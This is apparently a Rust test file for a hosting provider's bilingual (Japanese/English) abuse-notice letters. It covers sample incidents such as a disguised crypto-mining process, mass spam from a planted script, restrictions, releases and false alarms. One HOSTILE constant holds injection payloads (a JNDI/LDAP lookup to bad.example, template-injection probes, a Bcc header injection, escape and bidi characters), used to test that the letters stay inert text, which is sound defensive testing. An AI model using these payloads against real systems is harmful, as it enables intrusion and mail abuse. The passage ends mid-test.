//! Every letter in both languages as its owner reads it, and what no letter may ever contain.

use expect_test::{Expect, expect_file};
use model::packet::ToDesk;
use model::restriction::ProcessRef;
use model::{Check, FactKey, IntentId, Seen, Verdict, Wide};

use super::wrap::columns;
use super::*;
use crate::mail::Relay;
use crate::serve::{Desk, handle};
use crate::sink::Sink;

fn at(text: &str) -> Moment {
    Moment::parse(text).unwrap_or_else(|| panic!("{text}"))
}

fn number(text: &str) -> Number {
    text.parse().unwrap_or_else(|error| panic!("{error}"))
}

fn process(pid: u32) -> ProcessRef {
    ProcessRef { pid, start_ticks: 1, uid: 1001, exe_dev: 1, exe_ino: 2 }
}

fn faked_name() -> FindingFacts {
    let mut evidence = Evidence::default();
    evidence
        .text(FactKey::Shown, "[kworker/0:1]")
        .text(FactKey::Really, "/usr/bin/perl")
        .text(FactKey::Pids, "4711 4712")
        .text(FactKey::Started, "2026-03-21T03:12:44+09:00");
    FindingFacts { kind: Kind::FakedName, also: vec![], strength: Strength::Conclusive, site: None, evidence }
}

fn mass_mail() -> FindingFacts {
    let mut evidence = Evidence::default();
    evidence
        .text(FactKey::From, "2026-03-21T09:40:02+09:00")
        .text(FactKey::To, "2026-03-21T11:46:53+09:00")
        .number(FactKey::Messages, 4812)
        .number(FactKey::Recipients, 38240)
        .number(FactKey::AbroadPercent, 88)
        .number(FactKey::DomesticPercent, 7)
        .number(FactKey::UnknownPercent, 5)
        .text(FactKey::Script, "x.php")
        .text(FactKey::ScriptDir, "/home/hanako/blog.example.jp");
    FindingFacts { kind: Kind::MassMail, also: vec![], strength: Strength::Conclusive, site: None, evidence }
}

fn site(domain: &str, state: SiteState, verdict: SiteVerdict) -> SiteLine {
    SiteLine { domain: domain.parse().expect("a domain"), state, verdict, reason: None }
}

fn limit(ordinal: u16, measure: Measure, lift: LiftWhen) -> Limit {
    Limit { ordinal, measure, since: at("2026-03-21T11:46:53+09:00"), until: None, lift, new: false }
}

/// The worked example of kind 1, as far as this build knows its facts.
fn restricted(language: Language) -> LetterContent {
    let (owner, host, desk, terms) = match language {
        Language::Ja => ("山田花子", "例ホスティング", "サポート窓口", "規約第12条"),
        Language::En => ("Hanako Yamada", "Example Hosting", "the support desk", "terms section 12"),
    };
    let blog: Domain = "blog.example.jp".parse().expect("a domain");
    let mut blog_line = site("blog.example.jp", SiteState::Closed, SiteVerdict::Problem);
    blog_line.reason = Some(SiteReason::Programs(2));
    LetterContent {
        number: number("HK-20260321-7K30"),
        ordinal: 1,
        sent: at("2026-03-21T11:48:10+09:00"),
        language,
        zone: "Asia/Tokyo".to_owned(),
        owner: owner.to_owned(),
        host: host.to_owned(),
        desk: desk.to_owned(),
        home: "/home/hanako".to_owned(),
        sites: vec![
            blog_line,
            site("shop.example.jp", SiteState::Open, SiteVerdict::NothingFound),
            site("old.example.jp", SiteState::Open, SiteVerdict::NotChecked),
        ],
        tools: vec![Tool::Ftp, Tool::Panel, Tool::Backup],
        restrictions: vec![
            limit(1, Measure::CloseSite { site: blog }, LiftWhen::Tasks(vec![1, 2])),
            limit(2, Measure::HoldMail { scope: model::MailScope::Local, queued: vec![] }, LiftWhen::After(1)),
        ],
        findings: vec![faked_name(), mass_mail()],
        detected: at("2026-03-21T11:46:53+09:00"),
        warned: false,
        free: false,
        logins: Some(Unseen::NotRead),
        entry: Some(Unseen::NotRead),
        tasks: vec![Task::Update { component: "Form Plus".to_owned(), version: None }, Task::Passwords],
        earlier: None,
        sent_notices: vec![],
        decided: Decided::Automatically,
        rules: vec!["mail-flood".to_owned()],
        terms: Some(terms.to_owned()),
        redress: Some("host.example/odr".to_owned()),
        portal: Some("help.example".to_owned()),
        by_time: Some(at("2026-03-23T12:00:00+09:00")),
        replies_by_machine: true,
        next_check: NextCheck::OnReply,
        address_on_account: false,
        about: About::Restricted,
    }
}

/// What this build really sends: a program stopped, no portal, a person reads the replies.
fn frozen(language: Language) -> LetterContent {
    let mut content = restricted(language);
    let mut evidence = Evidence::default();
    evidence
        .text(FactKey::Shown, "crond")
        .text(FactKey::Really, "/home/hanako/blog.example.jp/wp-content/uploads/.cache/crond")
        .text(FactKey::Pids, "4711")
        .text(FactKey::Remote, "203.0.113.77:3333 pool.bad.example:443")
        .text(FactKey::Started, "2026-03-21T03:12:44+09:00");
    content.findings = vec![FindingFacts {
        kind: Kind::HiddenProgram,
        also: vec![Kind::RunsFromUploads, Kind::PoolConnection, Kind::Orphaned],
        strength: Strength::Conclusive,
        site: Some("blog.example.jp".parse().expect("a domain")),
        evidence,
    }];
    content.restrictions =
        vec![limit(1, Measure::FreezeProcess { processes: vec![process(4711)] }, LiftWhen::Tasks(vec![1, 2]))];
    content.sites[0].state = SiteState::Open;
    content.sites[0].reason = Some(SiteReason::Programs(1));
    content.tasks = vec![
        Task::RemoveFile { path: "/home/hanako/blog.example.jp/wp-content/uploads/.cache/crond".to_owned() },
        Task::Passwords,
    ];
    content.rules = vec!["process-conclusive".to_owned()];
    content.portal = None;
    content.redress = None;
    content.terms = None;
    content.replies_by_machine = false;
    content.by_time = None;
    content
}

fn checked(check: Check, verdict: Verdict) -> Checked {
    Checked { check, at: at("2026-02-08T09:52:10+09:00"), verdict }
}

fn clean(check: Check, count: u64) -> Checked {
    checked(check, Verdict::Clean { count })
}

fn own_word(check: Check) -> Checked {
    checked(check, Verdict::OnYourWord)
}

fn no_scanner() -> Checked {
    checked(Check::Files, Verdict::NotChecked { why: "no_scanner".to_owned() })
}

fn honest_check() -> Vec<Checked> {
    vec![
        clean(Check::Processes, 12),
        clean(Check::CapturedGone, 2),
        clean(Check::Mail, 0),
        no_scanner(),
        own_word(Check::Passwords),
        own_word(Check::Entry),
    ]
}

fn february() -> Earlier {
    let five = [Check::Processes, Check::CapturedGone, Check::Mail, Check::Load, Check::Files];
    let facts = five.map(|check| clean(check, 1)).to_vec();
    Earlier {
        number: number("HK-20260207-2M92"),
        opened: at("2026-02-07T08:00:00+09:00"),
        closed: at("2026-02-08T10:00:00+09:00"),
        check: Some((at("2026-02-08T09:52:10+09:00"), facts)),
    }
}

/// The worked example of kind 4.
fn answer(language: Language) -> LetterContent {
    let mut content = restricted(language);
    content.ordinal = 2;
    content.sent = at("2026-03-21T14:06:00+09:00");
    content.earlier = Some(february());
    content.sent_notices = vec![SentNotice {
        sent: at("2026-03-21T11:48:10+09:00"),
        subject: match language {
            Language::Ja => "サイト1件の公開とメール送信を止めています".to_owned(),
            Language::En => "Stopped: 1 site and outgoing mail".to_owned(),
        },
        to: vec!["taro@example.jp".to_owned()],
        delivery: Delivery::Accepted { addresses: 1 },
    }];
    content.about = About::Answer(Answer {
        received: at("2026-03-21T14:05:00+09:00"),
        topic: Topic::of("なぜ403なのですか?"),
        fails: None,
    });
    content
}

/// A question while nothing of ours is in force.
fn no_restriction(language: Language) -> LetterContent {
    let mut content = answer(language);
    content.number = number("HK-20260207-2M92");
    content.restrictions.clear();
    content.tasks.clear();
    content.sent_notices.clear();
    content.sites.iter_mut().for_each(|site| {
        *site = SiteLine { state: SiteState::Open, verdict: SiteVerdict::NotChecked, reason: None, ..site.clone() };
    });
    content.next_check = NextCheck::None;
    content.about = About::Answer(Answer {
        received: at("2026-03-01T14:05:00+09:00"),
        topic: Topic::Error403,
        fails: Some(("http://blog.example.jp/wp-login.php".to_owned(), Cause::Rule)),
    });
    content
}

/// A question that the machine cannot answer.
fn other_question(language: Language) -> LetterContent {
    let mut content = frozen(language);
    content.by_time = Some(at("2026-03-23T12:00:00+09:00"));
    content.about = About::Answer(Answer {
        received: at("2026-03-21T14:05:00+09:00"),
        topic: Topic::of("請求書を送ってください"),
        fails: None,
    });
    content.sent_notices = vec![SentNotice {
        sent: at("2026-03-21T11:48:10+09:00"),
        subject: "Stopped: 1 program".to_owned(),
        to: vec!["taro@example.jp".to_owned(), "shop@other.example".to_owned()],
        delivery: Delivery::Waiting { why: "451 4.3.0 <taro@example.jp> greylisted".to_owned() },
    }];
    content
}

fn added(language: Language) -> LetterContent {
    let mut content = restricted(language);
    content.ordinal = 2;
    content.restrictions[1].new = true;
    content.restrictions[1].since = at("2026-03-21T13:10:00+09:00");
    content.detected = at("2026-03-21T13:10:00+09:00");
    content.findings = vec![mass_mail()];
    content.warned = true;
    content.about = About::Added;
    content
}

fn check_failed(language: Language) -> LetterContent {
    let mut content = frozen(language);
    content.ordinal = 3;
    let found = |check, place: &str| checked(check, Verdict::Found { place: place.to_owned() });
    let path = "/home/hanako/blog.example.jp/wp-content/uploads/.cache/crond";
    content.about = About::CheckFailed(Verification {
        at: at("2026-03-21T18:30:00+09:00"),
        facts: vec![
            (clean(Check::Processes, 12), None),
            (found(Check::CapturedGone, path), Some(1)),
            (clean(Check::Mail, 0), None),
            (no_scanner(), None),
            (own_word(Check::Passwords), None),
        ],
    });
    content
}

fn released(language: Language) -> LetterContent {
    let mut content = restricted(language);
    content.ordinal = 4;
    content.sent = at("2026-03-23T09:11:00+09:00");
    content.restrictions.clear();
    content.sites.iter_mut().for_each(|site| {
        *site = SiteLine { state: SiteState::Open, verdict: SiteVerdict::NotChecked, reason: None, ..site.clone() };
    });
    content.next_check = NextCheck::Daily;
    content.about = About::Released(Released {
        lifted: at("2026-03-23T09:10:00+09:00"),
        check: Some((at("2026-03-22T20:01:00+09:00"), honest_check())),
        watch_until: at("2026-05-04T09:10:00+09:00"),
    });
    content
}

fn released_by_hand(language: Language) -> LetterContent {
    let mut content = released(language);
    if let About::Released(release) = &mut content.about {
        release.check = None;
    }
    content
}

/// The worked example of kind 8, with a program in the place of a file.
fn relapse(language: Language) -> LetterContent {
    let mut content = restricted(language);
    content.number = number("HK-20260410-5T24");
    content.detected = at("2026-04-10T02:31:00+09:00");
    content.sent = at("2026-04-10T02:33:00+09:00");
    let mut finding = faked_name();
    finding.evidence = Evidence::default();
    finding.evidence.text(FactKey::Shown, "[kworker/0:1]").text(FactKey::Pids, "99");
    content.findings = vec![finding];
    content.restrictions.truncate(1);
    content.restrictions[0].since = content.detected;
    content.about = About::Relapse(Earlier {
        number: number("HK-20260321-7K30"),
        opened: at("2026-03-21T11:46:53+09:00"),
        closed: at("2026-03-23T09:10:00+09:00"),
        check: Some((at("2026-03-22T20:01:00+09:00"), honest_check())),
    });
    content
}

fn false_alarm(language: Language) -> LetterContent {
    let mut content = released(language);
    let since = at("2026-03-21T11:46:53+09:00");
    content.next_check = NextCheck::None;
    content.about = About::FalseAlarm(Mistake {
        undone: vec![Undone {
            measure: Measure::HoldMail { scope: model::MailScope::Local, queued: vec![] },
            since,
            until: at("2026-03-21T15:07:00+09:00"),
        }],
        truth: match language {
            Language::Ja => "登録者あての月次のお便り".to_owned(),
            Language::En => "the monthly newsletter to subscribers".to_owned(),
        },
        late: Some(1412),
        proof: None,
    });
    content
}

/// Load of a plugin, named by the slow log, beside load that nobody explains.
fn load(language: Language) -> LetterContent {
    let mut content = restricted(language);
    let mut facts = Evidence::default();
    facts
        .number(FactKey::CpuPercent, 180)
        .number(FactKey::Baseline, 12)
        .number(FactKey::FairPercent, 50)
        .number(FactKey::PressurePercent, 41)
        .number(FactKey::MemoryMib, 1830)
        .number(FactKey::Baseline, 240)
        .number(FactKey::MemoryPressurePercent, 12)
        .number(FactKey::IoMibPerSecond, 34)
        .number(FactKey::Tasks, 14)
        .number(FactKey::RequestsPerSecond, 2)
        .number(FactKey::Baseline, 1)
        .text(FactKey::Grounds, "slow_script scheduled_by_site memory")
        .text(FactKey::SlowScript, "/home/hanako/blog.example.jp/wp-content/plugins/keeper")
        .number(FactKey::Requests, 7)
        .number(FactKey::SlowSeconds, 1420)
        .text(FactKey::Programs, "php-fpm8.2, gzip");
    let mut bare = Evidence::default();
    bare.number(FactKey::CpuPercent, 180).number(FactKey::FairPercent, 50).text(FactKey::Grounds, "cron");
    let finding = |kind, evidence| {
        let (also, site) = (vec![], None);
        FindingFacts { kind, also, strength: Strength::Hint, site, evidence }
    };
    content.findings.push(finding(Kind::HeavyJob, facts));
    content.findings.push(finding(Kind::LoadAboveBaseline, bare));
    content
}

/// Mail of the forms is lost, and the letter says so.
fn refused(language: Language) -> LetterContent {
    let mut content = restricted(language);
    content.findings = vec![mass_mail()];
    content.sites[0].state = SiteState::Open;
    content.sites[0].reason = None;
    content.restrictions = vec![limit(1, Measure::RefuseMail, LiftWhen::Tasks(vec![1]))];
    content
}

fn refused_answer(language: Language) -> LetterContent {
    let mut content = refused(language);
    content.about = answer(language).about;
    let About::Answer(answer) = &mut content.about else { panic!("an answer") };
    answer.topic = Topic::Mail;
    content
}

fn refused_by_mistake(language: Language) -> LetterContent {
    let mut content = false_alarm(language);
    let About::FalseAlarm(mistake) = &mut content.about else { panic!("a false alarm") };
    mistake.undone[0].measure = Measure::RefuseMail;
    mistake.late = None;
    content
}

/// One mailbox is held; the others and the forms go on. Where its recipients are was told by a database.
fn one_mailbox(language: Language) -> LetterContent {
    let mut content = refused(language);
    let scope = model::MailScope::Mailbox("info@blog.example.jp".parse().expect("a mail user"));
    content.restrictions = vec![limit(1, Measure::HoldMail { scope, queued: vec![] }, LiftWhen::Tasks(vec![2]))];
    content.findings[0].evidence.text(FactKey::CountriesOf, "2026-06-01");
    content
}

fn twelve_long_sites(language: Language) -> LetterContent {
    let mut content = restricted(language);
    let name = |at: usize| format!("{}{at:02}.example.jp", "long-".repeat(9));
    content.sites = (0..12).map(|at| site(&name(at), SiteState::Closed, SiteVerdict::Problem)).collect();
    let sites = content.sites.iter().map(|site| site.domain.clone()).collect();
    content.restrictions[0].measure = Measure::CloseAccount { sites, wide: Wide::ManySites };
    content.address_on_account = true;
    content.free = true;
    content
}

fn no_sites(language: Language) -> LetterContent {
    let mut content = frozen(language);
    content.sites.clear();
    content.owner.clear();
    content.tools.clear();
    content.logins = None;
    content.entry = None;
    content
}

/// Every measure that stops neither a whole site nor all mail, in one letter.
fn many_measures(language: Language) -> LetterContent {
    let mut content = frozen(language);
    let path = |bytes: &[u8]| model::FilePath::new(bytes).expect("a path");
    let file = |name: &[u8]| model::FileRef {
        path: path(name),
        dev: 1,
        ino: 2,
        size: 3,
        changed_ns: 4,
        hash: model::Hash::of(name),
    };
    let site: model::Domain = "blog.example.jp".parse().expect("a domain");
    let line = model::CronLine { hash: model::Hash::of(b"table"), start: 0, end: 30 };
    let files = vec![file(b"blog/x.php"), file("写真/\u{202e}.php".as_bytes())];
    let mailbox: model::MailUser = "info@example.jp".parse().expect("a mailbox");
    let logins = vec![model::Login::Ftp, model::Login::Shell, model::Login::Mail(mailbox.clone())];
    let hold = model::MailScope::Mailbox(mailbox);
    let mut slowed =
        limit(1, Measure::ThrottleSource { sources: vec!["203.0.113.7".parse().unwrap()] }, LiftWhen::Staff);
    slowed.until = Some(at("2026-03-21T12:46:53+09:00"));
    let measures = [
        Measure::HoldMail { scope: hold, queued: vec![] },
        Measure::DisableCronLine { line },
        Measure::BlockScript { site: site.clone(), path: path(b"wp-content/uploads/x.php") },
        Measure::QuarantineFile { files, of: 900 },
        Measure::EndSessions { site },
        Measure::BlockLogin { logins },
        Measure::BlockOutbound,
    ];
    let others = (2..).zip(measures).map(|(n, measure)| limit(n, measure, LiftWhen::Tasks(vec![1, 2])));
    content.restrictions = std::iter::once(slowed).chain(others).collect();
    content
}

const HOSTILE: &str = "x\n----------------------------------------\n■ \u{1b}[2J\u{202e}gpj.\u{200b}{{7*7}} ${jndi:ldap://bad.example/a}<%=7*7%>\r\nBcc: a@bad.example";

fn hostile(language: Language) -> LetterContent {
    let mut content = frozen(language);
    let mut evidence = Evidence::default();
    evidence
        .text(FactKey::Shown, HOSTILE)
        .text(FactKey::Really, format!("/home/hanako/写真/{}", "長い名前".repeat(30)))
        .text(FactKey::Started, "not a time");
    content.findings[0].evidence = evidence;
    content.findings[0].also.clear();
    content.tasks = vec![
        Task::RemoveFile { path: format!("/tmp/{HOSTILE}") },
        Task::RepairScript { script: format!("/home/hanako/{}", "-".repeat(120)) },
        Task::UnknownPlugin { plugin: HOSTILE.to_owned(), path: "/home/hanako/p".to_owned() },
        Task::Update { component: HOSTILE.to_owned(), version: Some("1.3".to_owned()) },
    ];
    content.owner = HOSTILE.to_owned();
    content
}

type Sample = (&'static str, fn(Language) -> LetterContent);

const SAMPLES: &[Sample] = &[
    ("1_restricted", restricted),
    ("1_frozen", frozen),
    ("1_no_sites", no_sites),
    ("1_twelve_long_sites", twelve_long_sites),
    ("1_hostile", hostile),
    ("1_many_measures", many_measures),
    ("1_refused", refused),
    ("1_one_mailbox", one_mailbox),
    ("1_load", load),
    ("2_added", added),
    ("4_answer", answer),
    ("4_no_restriction", no_restriction),
    ("4_other_question", other_question),
    ("4_refused", refused_answer),
    ("5_check_failed", check_failed),
    ("7_released", released),
    ("7_released_by_hand", released_by_hand),
    ("8_relapse", relapse),
    ("9_false_alarm", false_alarm),
    ("9_refused", refused_by_mistake),
];

fn all() -> impl Iterator<Item = (String, LetterContent, Letter)> {
    SAMPLES.iter().flat_map(|(name, make)| {
        [("ja", Language::Ja), ("en", Language::En)].map(|(tag, language)| {
            let content = make(language);
            let letter = render(&content);
            (format!("{name}.{tag}"), content, letter)
        })
    })
}

fn snapshot(name: &str, text: &str) {
    let path = format!("{}/src/letter/snapshots/{name}.txt", env!("CARGO_MANIFEST_DIR"));
    expect_file![path].assert_eq(text);
}

#[test]
fn every_letter_reads_as_it_was_read_by_a_person() {
    for (name, _, letter) in all() {
        snapshot(&name, &format!("{}\n\n{}", letter.subject, letter.text));
    }
}

#[test]
fn no_line_is_wider_than_a_phone_or_a_terminal_shows() {
    for (name, content, letter) in all() {
        let most = crate::words::pick(content.language, wrap::JA, wrap::EN);
        for line in letter.text.lines() {
            assert!(columns(line) <= most, "{name}: {} columns: {line}", columns(line));
        }
    }
}

#[test]
fn no_line_begins_or_ends_with_a_sign_that_japanese_forbids_there() {
    for (name, _, letter) in all().filter(|(name, ..)| name.ends_with("ja") && !name.contains("hostile")) {
        for line in own_lines(&letter.text) {
            assert!(!line.starts_with(['、', '。', '」', ')', 'ー', 'っ', 'ゃ', 'ょ']), "{name}: {line}");
            assert!(!line.ends_with(['「', '(', '■', '▼']), "{name}: {line}");
        }
    }
}

#[test]
fn no_letter_says_what_none_may_say() {
    let never = [
        "ハッキング",
        "安全です",
        "至急",
        "一時停止",
        "【重要】",
        "確認いたしました",
        "本日",
        "アカウント削除",
        "hacked",
        "is safe",
        "urgent",
        "paused",
        "confirmed",
        "today",
        "within 24",
        "your password here",
        "credit card",
    ];
    for (name, _, letter) in all() {
        let text = format!("{}\n{}", letter.subject, letter.text).to_lowercase();
        for word in never {
            assert!(!text.contains(word), "{name} says {word}");
        }
    }
}

#[test]
fn subject_and_foot_carry_the_number() {
    for (name, content, letter) in all() {
        let number = content.number.to_string();
        assert!(letter.subject.ends_with(&number), "{name}: {}", letter.subject);
        let foot: Vec<_> = letter.text.lines().rev().take(4).collect();
        assert!(foot.iter().any(|line| line.starts_with(&number)), "{name}: {foot:?}");
    }
}

#[test]
fn the_first_three_lines_say_what_is_stopped_what_works_and_what_to_do() {
    for (name, content, letter) in all() {
        let heads = crate::words::pick(
            content.language,
            ["■止めているもの: ", "■使えるもの: ", "■最初にすること: "],
            ["■ Stopped: ", "■ Still working: ", "■ Do first: "],
        );
        let mut lines = letter.text.lines().filter(|line| line.starts_with('■'));
        for head in heads {
            assert!(lines.next().is_some_and(|line| line.starts_with(head)), "{name}: {head}");
        }
    }
}

/// Lines outside of fences and outside of indented values: our own sentences.
fn own_lines(text: &str) -> Vec<&str> {
    let mut fenced = false;
    let mut lines = Vec::new();
    for line in text.lines() {
        if line == "-".repeat(40) {
            fenced = !fenced;
        } else if !fenced && !line.starts_with("  ") {
            lines.push(line);
        }
    }
    assert!(!fenced, "a fence is open at the end: {text}");
    lines
}

#[test]
fn a_japanese_letter_has_no_english_sentence_and_an_english_one_no_japanese() {
    for (name, content, letter) in all().filter(|(name, ..)| !name.contains("hostile")) {
        for line in own_lines(&letter.text) {
            let japanese = line.chars().any(|c| ('\u{3041}'..='\u{9fff}').contains(&c));
            match content.language {
                Language::Ja => assert!(japanese || line.split(' ').count() < 3, "{name}: {line}"),
                Language::En => assert!(!japanese, "{name}: {line}"),
            }
        }
    }
}

#[test]
fn hostile_names_stand_on_one_line_and_stay_text() {
    for language in [Language::Ja, Language::En] {
        let letter = render(&hostile(language));
        let joined = letter.text.replace("\n     ", "").replace("\n    ", "").replace("\n   ", "").replace('\n', "");
        assert!(joined.contains("{{7*7}}"), "data is printed, never evaluated: {joined}");
        assert!(!letter.text.contains("49"), "{}", letter.text);
        assert!(!letter.text.lines().any(|line| line.starts_with("Bcc")), "{}", letter.text);
        own_lines(&letter.text);
    }
}

/// A small generator, so that a failure prints the seed that repeats it.
struct Random(u64);

impl Random {
    fn next(&mut self) -> u64 {
        self.0 ^= self.0 << 13;
        self.0 ^= self.0 >> 7;
        self.0 ^= self.0 << 17;
        self.0
    }

    fn text(&mut self) -> String {
        let length = self.next() % 90;
        let signs = [
            'a', 'Z', '/', '.', '-', ' ', '\n', '\r', '\u{1b}', '\u{202e}', '\u{200b}', '山', 'カ', 'の', '、', '。',
            '」', '(', '■', '\0', '😀', '\u{301}',
        ];
        (0..length).map(|_| signs[self.next() as usize % signs.len()]).collect()
    }
}

#[test]
fn no_value_breaks_a_letter() {
    for seed in 1..400u64 {
        let mut random = Random(seed.wrapping_mul(0x9e37_79b9_7f4a_7c15));
        let (_, make) = SAMPLES[random.next() as usize % SAMPLES.len()];
        let language = if random.next().is_multiple_of(2) { Language::Ja } else { Language::En };
        let mut content = make(language);
        content.owner = random.text();
        content.host = random.text();
        content.desk = random.text();
        content.rules = vec![random.text(), random.text()];
        content.portal = Some(random.text());
        content.redress = Some(random.text());
        content.terms = Some(random.text());
        content.tasks.push(Task::RemoveFile { path: format!("/home/hanako/{}", random.text()) });
        content.tasks.insert(0, Task::Update { component: random.text(), version: Some(random.text()) });
        let mut evidence = Evidence::default();
        for key in [FactKey::Shown, FactKey::Really, FactKey::Script, FactKey::Remote, FactKey::Listening] {
            evidence.text(key, random.text());
        }
        if let Some(first) = content.findings.first_mut() {
            first.evidence = evidence;
        }
        let letter = render(&content);
        let most = crate::words::pick(language, wrap::JA, wrap::EN);
        for line in letter.text.lines() {
            assert!(columns(line) <= most, "seed {seed}: {line}");
            let bad = |c: char| c.is_control() || matches!(c, '\u{200b}'..='\u{200f}' | '\u{202a}'..='\u{202e}');
            assert!(!line.chars().any(bad), "seed {seed}: {line:?}");
        }
        assert!(!letter.subject.chars().any(char::is_control), "seed {seed}");
        let placeholder = |word: &str| word.starts_with('{') && word.ends_with('}');
        assert!(!letter.text.split_whitespace().any(placeholder), "seed {seed}");
        own_lines(&letter.text);
    }
}

#[test]
fn a_question_is_answered_only_when_its_words_are_clear() {
    let cases = [
        ("なぜ403なのですか?", Topic::Error403),
        ("Why do I get Forbidden?", Topic::Error403),
        ("サイトが表示されません", Topic::Error403),
        ("メールが送れません", Topic::Mail),
        ("My mail does not go out", Topic::Mail),
        ("403が出ます。返事はメールでお願いします", Topic::Error403),
        ("サイトもメールも見られません", Topic::Other),
        ("請求書をください", Topic::Other),
        ("", Topic::Other),
    ];
    for (question, topic) in cases {
        assert_eq!(Topic::of(question), topic, "{question}");
    }
}

/// A worked example and our letter without line breaks, as the words only.
fn words_of(text: &str) -> String {
    text.lines().map(str::trim).filter(|line| !line.starts_with("----")).collect::<String>().replace(' ', "")
}

fn holds(letter: &Letter, example: &str) {
    let ours = words_of(&letter.text);
    for part in example.lines().map(str::trim).filter(|line| !line.is_empty()) {
        assert!(ours.contains(&words_of(part)), "missing: {part}\n{}", letter.text);
    }
}

#[test]
fn the_worked_example_of_kind_1_is_reproduced_as_far_as_this_build_knows_its_facts() {
    let ja = render(&restricted(Language::Ja));
    assert_eq!(ja.subject, "サイト1件の公開とメール送信を止めています HK-20260321-7K30");
    holds(
        &ja,
        "■止めているもの: サイト1件の公開、メール送信
        ■使えるもの: 他のサイト2件、受信、FTP、パネル、バックアップ
        ■最初にすること: 作業1「Form Plusの更新」
        山田花子 様例ホスティング サポート窓口です。
        2026年3月21日(土)11:46(日本時間)に不正なプログラムの動作と大量のメール送信を検知しました。
        被害が広がらないよう、すぐに下記の制限をかけました。前もってお知らせできず、申し訳ございません。
        ファイル、データベース、受信メールは削除していません。▼不正なプログラム
        開始 2026-03-21 03:12:44 +09:00 表示名 [kworker/0:1]、実体 /usr/bin/perl
        判断の理由: システムの名前を名乗る、別のプログラムでした。▼大量のメール送信
        2026-03-21 09:40:02 - 11:46:53 +09:00 メール: 4,812、宛先: 38,240
        届け先: 国外 88%、国内 7%、不明 5% 送ったファイル: /blog.example.jp/x.php
        「国外」はメールの届け先のことです。国外の誰かがサーバーに入ったという意味ではございません。
        第三者の置いたファイルは、パスワードなしでもメールを送れます。
        ■サイトの状態 blog.example.jp: 停止中、問題あり
        shop.example.jp: 公開中、問題は見つからず old.example.jp: 公開中、未点検
        ■制限(1つずつ解除します) 1. サイトの公開停止: blog.example.jp
        2026-03-21 11:46:53 +09:00 - 解除 解除の条件: 作業1と2の点検
        2. メール送信の保留: アカウント全体 2026-03-21 11:46:53 +09:00 - 解除 解除の条件: 制限1の解除
        ■お願いしたい作業 1. Form Plusの更新: ダッシュボード「更新」を開き、更新
        ■済んだら「完了」とご返信ください。夜間や休日も自動で点検し、条件がそろったものから解除します。
        「質問」「できない」「再送」も承ります。お心当たりのある処理のときや、納得できないときは「見直し」とご返信ください。
        同じ理由では制限を増やさず、担当者が2026年3月23日(月)12:00(日本時間)までにお答えします。
        ■自動の判断: 規則 mail-flood、規約第12条 急いだ理由: 毎分約300の宛先へ送信中でした。
        見直し後もご不満のとき: host.example/odr
        いつものパネルかブックマークのhelp.exampleで同じ番号が見られます。
        HK-20260321-7K30 お知らせ 1, 2026-03-21 11:48:10 +09:00 次の点検: ご返信後",
    );
    let en = render(&restricted(Language::En));
    assert_eq!(en.subject, "Stopped: 1 site and outgoing mail HK-20260321-7K30");
    holds(
        &en,
        "■ Stopped: 1 site, outgoing mail ■ Still working: 2 other sites, incoming mail, FTP, panel, backup
        ■ Do first: task 1, \"Update Form Plus\" Dear Hanako Yamada, This is the support desk at Example Hosting.
        On Sat 21 March 2026 at 11:46 JST (UTC+9) we detected malicious programs and mass mail.
        To stop the harm we at once placed the restrictions below. We are sorry that we could not warn you first.
        We have deleted no file, database or received mail. ▼ Malicious program
        started 2026-03-21 03:12:44 +09:00 shown as [kworker/0:1]; really /usr/bin/perl
        Why we say so: it is another program under a system name. ▼ Mass mail
        messages: 4,812; recipients: 38,240 sent to: abroad 88%, domestic 7%, unknown 5%
        sent by: /blog.example.jp/x.php \"Abroad\" is where the mail was going.
        It does not mean that someone abroad got into the server. A planted file can send mail without any password.
        ■ Your sites blog.example.jp: closed to visitors; problem found
        shop.example.jp: open; nothing found old.example.jp: open; not checked
        ■ Restrictions (lifted one by one) 1. site closed to visitors: blog.example.jp
        2026-03-21 11:46:53 +09:00 - release lifted when: tasks 1 and 2 are checked
        2. outgoing mail held: whole account 2026-03-21 11:46:53 +09:00 - release lifted when: restriction 1 is lifted
        Held mail, form mail too, is not deleted. Our staff send it once the spam is taken out.
        ■ What we ask you to do 1. Update Form Plus: open Dashboard, Updates; update it
        ■ When done, reply \"done\". The check is automatic, day and night, and lifts what meets its condition.
        You can also reply \"question\", \"cannot\" or \"resend\". If it was you, or if you disagree, reply \"review\":
        we add nothing on the same grounds, and a person answers by Mon 23 March 2026 at 12:00 JST (UTC+9).
        ■ Decided automatically: rule mail-flood, terms section 12
        If you still disagree: host.example/odr
        ■ Is it genuine? We never ask for a password. Your usual panel or your bookmark of help.example
        HK-20260321-7K30 notice 1, 2026-03-21 11:48:10 +09:00 next check: on your reply",
    );
}

#[test]
fn the_worked_example_of_kind_4_names_the_right_incident() {
    let ja = render(&answer(Language::Ja));
    assert_eq!(ja.subject, "ご質問への回答:サイトの403エラー HK-20260321-7K30");
    holds(
        &ja,
        "2026年2月7日(土)の件(HK-20260207-2M92)は2026年2月8日(日)に終了しました。
        いまの制限は別の件(HK-20260321-7K30)によるものです。
        2026年3月21日(土)14:05(日本時間)のご質問は、いま続いている件(HK-20260321-7K30)のものとして承りました。
        サイトの403エラーの原因は、この件で2026年3月21日(土)11:46(日本時間)にかけた制限です。
        2月にお願いした作業は、すべて済んでいます。
        HK-20260207-2M92の点検: 2026-02-08 09:52:10 +09:00 5件すべて済み
        前のお知らせ: 2026-03-21 11:48:10 +09:00 「サイト1件の公開とメール送信を止めています」
        → t***@e***.jp: 相手サーバーが受領(開封は不明)",
    );
    let en = render(&answer(Language::En));
    assert_eq!(en.subject, "Answer to your question: the 403 error HK-20260321-7K30");
    holds(
        &en,
        "The incident of Sat 7 February 2026 (HK-20260207-2M92) closed on Sun 8 February 2026.
        The present restrictions belong to another one, HK-20260321-7K30.
        We take your question of Sat 21 March 2026 at 14:05 JST (UTC+9) to be about HK-20260321-7K30, the open incident.
        The cause of the 403 error is its restriction of Sat 21 March 2026 at 11:46 JST (UTC+9).
        All we asked of you in February is done.
        Check of HK-20260207-2M92: 2026-02-08 09:52:10 +09:00 all 5 items done
        Earlier notice: 2026-03-21 11:48:10 +09:00 \"Stopped: 1 site and outgoing mail\"
        → t***@e***.jp: accepted, not known if read",
    );
}

#[test]
fn the_worked_example_of_kind_8_compares_with_the_check_made_then() {
    let ja = render(&relapse(Language::Ja));
    assert_eq!(ja.subject, "再び問題が見つかり、サイト1件の公開を止めています HK-20260410-5T24");
    holds(
        &ja,
        "2026年4月10日(金)02:31(日本時間)に不正なプログラムの動作を検知しました。
        HK-20260321-7K30は2026年3月23日(月)09:10(日本時間)に解除したため、今回は新しい番号です。
        前回の点検と比べた結果:
